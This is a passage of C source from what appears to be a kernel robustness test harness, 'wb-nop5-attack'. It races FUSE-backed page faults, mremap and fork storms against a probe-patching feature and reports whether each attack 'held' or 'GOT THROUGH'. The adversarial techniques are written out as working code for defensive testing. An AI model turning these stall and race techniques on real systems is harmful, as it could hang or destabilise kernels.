		 fd, 0);
	if (p == MAP_FAILED)
		return 2;
	if (write(a->ready, &msg, 1) != 1)
		return 2;
	if (a->slot) {
		pthread_create(&th, NULL, slot_caller, (void *)slot);
		say("fuseslot: a thread entered the emptied slot");
	} else {
		p = mremap(c.base, c.len, c.len, MREMAP_MAYMOVE | MREMAP_FIXED,
			   (void *)(ARENA + (2UL << 32)));
		say("fusestall: mremap of the stale site's range: %s",
		    p == MAP_FAILED ? strerror(errno) : "done");
	}
	while (read(a->done, &msg, 1) > 0)
		;
	return 0;
}

static pid_t fork_do(int close_fd, int (*fn)(void *), void *arg)
{
	pid_t pid;

	fflush(stdout);
	pid = fork();
	if (pid)
		return pid;
	if (close_fd >= 0)
		close(close_fd);
	alarm(300);
	_exit(fn(arg));
}

static int forks200(void *go)
{
	char msg;
	int i;

	/* started before the prober, told to begin once it is under way */
	if (read(*(int *)go, &msg, 1) != 1)
		return 2;
	for (i = 0; i < 200; i++) {
		pid_t k = fork();

		if (k < 0)
			return 2;
		if (!k)
			_exit(0);
		waitpid(k, NULL, 0);
	}
	return 0;
}

static int toggle_probe(void *path)
{
	return write_str(path, "1") || write_str(path, "0") ? 2 : 0;
}

static int fusestall_attacker(void *a)
{
	return fusestall_child(a);
}

/* Wait up to @secs for @pid; its status, or -1 if it is still running. */
static int wait_bounded(pid_t pid, int secs)
{
	int status, i;

	for (i = 0; i < secs * 10; i++) {
		if (waitpid(pid, &status, WNOHANG) == pid)
			return status;
		usleep(100000);
	}
	return -1;
}

static int attack_fusestall(const char *enable, int slot)
{
	const char *name = slot ? "fuseslot" : "fusestall";
	char abort_path[128], msg = 'g';
	int pipefd[2], go[2], done[2], st_f, st_t, st_a, ret, reads;
	struct fuse_attacker a = { .slot = slot };
	struct timespec t0, t1;
	pid_t attacker, forker, toggler;
	pthread_t th;

	if (fuse_start(&th, abort_path, sizeof(abort_path)))
		return 2;
	if (pipe(pipefd) || pipe(go) || pipe(done))
		return 2;
	a.ready = pipefd[1];
	a.done = done[0];
	a.done_w = done[1];
	attacker = fork_do(fuse_fd, fusestall_attacker, &a);
	/* the attacker holds the only other end: EOF if it fails */
	close(pipefd[1]);
	close(done[0]);
	if (attacker < 0 || read(pipefd[0], &msg, 1) != 1) {
		fuse_stop(th, abort_path);
		return 2;
	}
	/* let the mremap() or the slot reach the site */
	sleep(2);
	reads = fuse_reads;
	say("%s: %d read(s) of the file asked for so far", name, reads);
	/*
	 * Nothing forks from here once the prober is under way: a fork()
	 * that waited behind it would keep this process from ending the
	 * stall.
	 */
	forker = fork_do(fuse_fd, forks200, &go[0]);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	toggler = fork_do(fuse_fd, toggle_probe, (void *)enable);
	usleep(500000);
	if (forker < 0 || toggler < 0 || write(go[1], &msg, 1) != 1)
		return 2;
	/* one bound for both, 60 s from the prober's start */
	st_t = wait_bounded(toggler, 60);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	st_f = wait_bounded(forker, 65 - (int)(t1.tv_sec - t0.tv_sec));
	clock_gettime(CLOCK_MONOTONIC, &t1);
	say("%s: probe enabled and disabled: %s; 200 forks and exits: %s; %ld s",
	    name, st_t < 0 ? "STILL WAITING" : status_str(st_t),
	    st_f < 0 ? "STILL WAITING" : status_str(st_f),
	    (long)(t1.tv_sec - t0.tv_sec));
	ret = !(st_t >= 0 && WIFEXITED(st_t) && !WEXITSTATUS(st_t) &&
		st_f >= 0 && WIFEXITED(st_f) && !WEXITSTATUS(st_f));
	/* the move has no reason to read the file: nothing of ours may */
	if (!slot && reads) {
		say("fusestall: the kernel asked for the file's page");
		ret = 1;
	}
	/* end the stall, whoever is in it, and collect everyone */
	fuse_stop(th, abort_path);
	close(done[1]);
	st_a = wait_bounded(attacker, 60);
	if (st_t < 0)
		st_t = wait_bounded(toggler, 60);
	if (st_f < 0)
		st_f = wait_bounded(forker, 60);
	say("%s: after the abort: attacker %s, prober %s, forker %s",
	    name, st_a < 0 ? "STILL WAITING" : status_str(st_a),
	    st_t < 0 ? "STILL WAITING" : status_str(st_t),
	    st_f < 0 ? "STILL WAITING" : status_str(st_f));
	/* the slot's thread returns into "f", which the abort made SIGBUS */
	if (st_a < 0 || (WIFEXITED(st_a) && WEXITSTATUS(st_a)) ||
	    (!slot && !WIFEXITED(st_a)))
		ret = ret ? ret : 2;
	return ret;
}

int main(int argc, char **argv)
{
	const char *mode;
	int ret;

	if (argc < 5) {
		fprintf(stderr, "usage: wb-nop5-attack MODE PROG FN_OFF SITE_OFF [ARG]\n");
		return 2;
	}
	mode = argv[1];
	prog = argv[2];
	fn_off = strtoul(argv[3], NULL, 0);
	site_off = strtoul(argv[4], NULL, 0);
	setvbuf(stdout, NULL, _IOLBF, 0);

	if (!strcmp(mode, "pagecache") && argc > 5)
		ret = attack_pagecache(argv[5]);
	else if (!strcmp(mode, "syscall"))
		ret = attack_syscall();
	else if (!strcmp(mode, "forged"))
		ret = attack_forged();
	else if (!strcmp(mode, "seccomp"))
		ret = attack_seccomp();
	else if (!strcmp(mode, "forkleak"))
		ret = attack_forkleak();
	else if (!strcmp(mode, "dontfork"))
		ret = attack_dontfork();
	else if (!strcmp(mode, "calls") && argc > 5)
		ret = attack_calls(atol(argv[5]));
	else if (!strcmp(mode, "stall"))
		ret = attack_stall();
	else if (!strcmp(mode, "fusestall") && argc > 5)
		ret = attack_fusestall(argv[5], 0);
	else if (!strcmp(mode, "fuseslot") && argc > 5)
		ret = attack_fusestall(argv[5], 1);
	else if (!strcmp(mode, "charge") && argc > 6)
		ret = attack_charge(argv[5], atoi(argv[6]));
	else
		return 2;
	say("%s: %s", mode, ret == 0 ? "held" : ret == 1 ? "GOT THROUGH" :
	    ret == 3 ? "not available" : "setup failed");
	return ret;
}
